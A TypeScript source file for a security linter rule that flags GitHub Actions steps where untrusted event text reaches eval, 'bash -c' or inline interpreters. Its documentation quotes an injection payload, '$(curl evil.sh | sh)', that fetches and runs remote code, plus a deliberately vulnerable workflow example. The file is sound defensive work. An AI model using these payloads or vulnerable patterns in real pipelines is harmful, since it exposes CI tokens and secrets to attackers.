import { defineRule } from '../../engine/rule';
import type { AnalysisContext } from '../../engine/context';
import type { Job, Step } from '../../model/workflow';
import {
  actionTaint,
  describeTaint,
  taintSeverity,
  workflowTaint,
  type Taint,
  type TaintScope,
} from '../../analysis/taint';
import { describeReach, type Reach } from '../../analysis/triggers';
import { languageOfShell } from '../../fixes/script-env';
import { posixCommands, scriptSource, type Word, commandNameIndex } from '../_shell/words';

export default defineRule({
  meta: {
    id: 'shell-eval-injection',
    title: 'Untrusted variable run as code by eval, sh -c or an inline interpreter',
    description:
      'An environment variable holding attacker-controllable text is expanded by the shell into code that is run again: the argument of `eval`, the command string of `bash -c`/`sh -c`, or the inline program of `python -c`, `node -e`, `perl -e`, `ruby -e`.',
    severity: 'high',
    confidence: 'high',
    category: 'untrusted-input',
    aliases: ['shell-eval-injection', 'eval-injection'],
    appliesTo: ['workflow', 'action'],
    fixable: false,
    docs: {
      risk: 'Moving `${{ }}` into `env:` makes the value data only while the shell keeps it data. `eval "$TITLE"` or `bash -c "echo $TITLE"` paste the value into text that a shell parses again, and `python3 -c "print(\'$TITLE\')"` into a program: a title such as `$(curl evil.sh | sh)` or `\'); import os; os.system(\'...` runs with the job\'s token and secrets.',
      remediation:
        'Do not build code from untrusted text. Pass the value as an argument or through the environment of the inner program, which then reads it as data: `bash -c \'echo "$1"\' _ "$TITLE"`, `bash -c \'echo "$TITLE"\'` (single quotes: the inner shell expands it as data), `python3 -c \'import os; print(os.environ["TITLE"])\'`. Drop `eval` unless every input is a constant. There is no mechanical fix: the right form depends on what the code does with the value.',
      severity:
        "Follows who can trigger the workflow, as for template-injection: high when any GitHub user can and the job has secrets, low for dispatch inputs and inputs whose callers are not visible, low on `pull_request` (a fork's run has no secrets). A variable inside single quotes is not expanded by the outer shell and is not reported.",
      vulnerableExample:
        'on: issue_comment\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: bash -c "echo $BODY"\n',
      safeExample:
        'on: issue_comment\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: bash -c \'echo "$BODY"\'\n',
      references: [
        'https://securitylab.github.com/resources/github-actions-untrusted-input/',
        'https://cwe.mitre.org/data/definitions/95.html',
      ],
    },
  },

  step(step, job, wf, ctx) {
    const taint = workflowTaint(wf, ctx);
    check(step, job, taint.stepScope(step), taint.reachOf(job, step), ctx);
  },

  actionStep(step, action, ctx) {
    check(step, undefined, actionTaint(action, ctx).stepScope(step), 'action', ctx);
  },
});

const SHELLS = new Set(['bash', 'sh', 'zsh', 'dash', 'ksh']);
/** Interpreters and the option that takes an inline program. */
const INLINE_PROGRAM: Record<string, string> = {
  python: '-c',
  python3: '-c',
  node: '-e',
  perl: '-e',
  ruby: '-e',
};

function check(step: Step, job: Job | undefined, scope: TaintScope, reach: Reach | 'action', ctx: AnalysisContext) {
  const run = step.run;
  if (!run || scope.env.size === 0 || !/\$/.test(run.text)) return;
  const shell = step.shell ?? (job?.runsOn.some((r) => /windows/i.test(r.text)) ? 'pwsh' : 'bash');
  if (languageOfShell(shell) !== 'posix') return;
  const source = scriptSource(ctx.text, run);
  if (!source) return;
  for (const words of posixCommands(ctx.text, source.from, source.to)) {
    const k = commandNameIndex(words);
    const tool = words[k]?.text.replace(/^.*\//, '');
    if (!tool) continue;
    const args = words.slice(k + 1);
    let code: Word[] = [];
    let what = '';
    if (tool === 'eval') {
      code = args;
      what = 'eval';
    } else if (SHELLS.has(tool) || Object.hasOwn(INLINE_PROGRAM, tool)) {
      const flag = SHELLS.has(tool) ? '-c' : INLINE_PROGRAM[tool];
      // The program is the word after the flag (`bash -c CODE`, also bundled: `bash -ec CODE`).
      const at = args.findIndex((w) => w.text === flag || (SHELLS.has(tool) && /^-[a-z]*c$/.test(w.text)));
      if (at >= 0 && args[at + 1]) code = [args[at + 1]];
      what = `${tool} ${flag}`;
    }
    for (const word of code) {
      const hit = expandedTaint(word, scope);
      if (!hit) continue;
      report(hit, what, reach, ctx);
      break;
    }
  }
}

/** The first tainted variable the outer shell expands inside a word (unquoted or in double quotes). */
function expandedTaint(word: Word, scope: TaintScope): { name: string; start: number; taint: Taint } | undefined {
  const text = word.text;
  let inDouble = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (c === '\\') {
      i++;
      continue;
    }
    if (c === "'" && !inDouble) {
      const close = text.indexOf("'", i + 1);
      if (close === -1) return undefined;
      i = close;
      continue;
    }
    if (c === '"') inDouble = !inDouble;
    if (c !== '$') continue;
    const m = /^\$(?:\{([A-Za-z_]\w*)[}:#%/^,@[-]|([A-Za-z_]\w*))/.exec(text.slice(i));
    const name = m?.[1] ?? m?.[2];
    const taint = name ? scope.env.get(name.toLowerCase()) : undefined;
    if (name && taint) return { name, start: word.start + i, taint };
  }
  return undefined;
}

function report(
  hit: { name: string; start: number; taint: Taint },
  what: string,
  reach: Reach | 'action',
  ctx: AnalysisContext,
): void {
  const { taint } = hit;
  ctx.report({
    message: `$${hit.name} holds ${describeTaint(taint)} and the shell pastes it into code that ${what} runs: the value becomes code. Pass it as an argument or keep it in single quotes so the inner program reads it as data. (${describeReach(taint.reach ?? reach)})`,
    span: { start: hit.start, end: hit.start + 1 + hit.name.length + (ctx.text[hit.start + 1] === '{' ? 2 : 0) },
    severity: taintSeverity(taint, reach),
    confidence: taint.confidence,
    properties: { context: taint.origin, via: taint.via, sink: what },
  });
}
